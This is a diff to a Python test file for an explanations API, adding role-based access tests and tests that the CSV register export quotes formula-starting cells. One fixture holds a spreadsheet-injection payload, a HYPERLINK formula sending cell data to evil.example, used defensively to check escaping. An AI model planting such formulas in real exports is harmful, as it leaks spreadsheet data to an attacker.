@@ -7,8 +7,10 @@ import datetime as dt
 import io
 from typing import Any
 
+import pytest
 from sqlalchemy import update
 
+from services.principles.explanations.api import _csv_value
 from services.principles.explanations.models import Explanation
 from tests.conftest import Suite
 from tests.principles.helpers import (
@@ -121,10 +123,21 @@ async def test_who_may_ask(suite: Suite, tokens: Tokens) -> None:
         async with suite.client("principles", headers) as client:
             response = await client.post("/v1/explanations", json=explanation_body(cloud, initiative))
             assert response.status_code == 201, response.text
+    # Ownership acts through the chain_owner role: the owner's sub with only the reader role is refused.
     async with suite.client("principles", tokens("reader", sub="u-programme-owner")) as client:
+        as_reader = await client.post("/v1/explanations", json=explanation_body(rolling, programme))
+        assert as_reader.status_code == 403, as_reader.text
+    async with suite.client("principles", tokens("chain_owner", sub="u-programme-owner")) as client:
         own_programme = await client.post("/v1/explanations", json=explanation_body(rolling, programme))
         assert own_programme.status_code == 201, own_programme.text  # owner.subject of the subject itself
-    for headers in (tokens("chain_owner", sub="u-someone-else"), tokens("reader"), tokens("contributor")):
+    refused = (
+        tokens("chain_owner", sub="u-someone-else"),
+        tokens("reader", sub="u-chain-owner-1"),  # the chain's owner, but acting as a reader
+        tokens("contributor", sub="u-chain-owner-1"),
+        tokens("reader"),
+        tokens("contributor"),
+    )
+    for headers in refused:
         async with suite.client("principles", headers) as client:
             response = await client.post("/v1/explanations", json=explanation_body(cloud, initiative))
             assert response.status_code == 403, response.text
@@ -245,6 +258,42 @@ async def test_the_register_exports_as_csv_and_json(suite: Suite, tokens: Tokens
             assert refused.status_code == 406, accept
             assert refused.headers["content-type"] == "application/problem+json"
             assert refused.json()["type"] == "/problems/not-acceptable"
+
+
+FORMULAS = {
+    "reason": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "decision_note": "+SUM(1,2)",
+}
+
+
+async def test_the_csv_register_does_not_hand_spreadsheets_formulas(suite: Suite, tokens: Tokens) -> None:
+    chain = await make_chain(suite, tokens)
+    initiative = await make_initiative(suite, tokens, chain, hosting="public_cloud", data_classification="secret")
+    async with suite.client("principles", architect(tokens, sub="@arch-formula")) as client:
+        cloud = await make_principle(client, rule=CLOUD_RULE, title="-1+1 cloud first")
+        body = explanation_body(cloud, initiative, reason=FORMULAS["reason"])
+        asked = (await client.post("/v1/explanations", json=body)).json()
+    async with suite.client("principles", architect(tokens, sub="arch-plain")) as client:
+        approved = await client.post(f"{local(asked['href'])}/approve", json={"note": FORMULAS["decision_note"]})
+        assert approved.status_code == 200, approved.text
+
+        as_csv = await client.get("/v1/explanations/register", headers={"Accept": "text/csv"})
+        row = next(r for r in csv.DictReader(io.StringIO(as_csv.text)) if r["href"] == asked["href"])
+        assert row["reason"] == "'" + FORMULAS["reason"]
+        assert row["decision_note"] == "'" + FORMULAS["decision_note"]
+        assert row["requested_by"] == "'@arch-formula" and row["principle_title"] == "'-1+1 cloud first"
+        assert row["approved_by"] == "arch-plain" and row["principle_revision"] == "1"  # the rest as it is
+        assert not [cell for r in csv.reader(io.StringIO(as_csv.text)) for cell in r if cell and cell[0] in "=+-@\t\r"]
+
+        as_json = (await client.get("/v1/explanations/register")).json()
+        item = next(i for i in as_json["items"] if i["href"] == asked["href"])
+        assert item["reason"] == FORMULAS["reason"] and item["requested_by"] == "@arch-formula"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_quoted(start: str) -> None:
+    assert _csv_value(f"{start}1+1") == f"'{start}1+1"
+    assert _csv_value(f"x{start}1") == f"x{start}1"
 
 
 async def test_a_requester_may_withdraw_their_request(suite: Suite, tokens: Tokens) -> None:
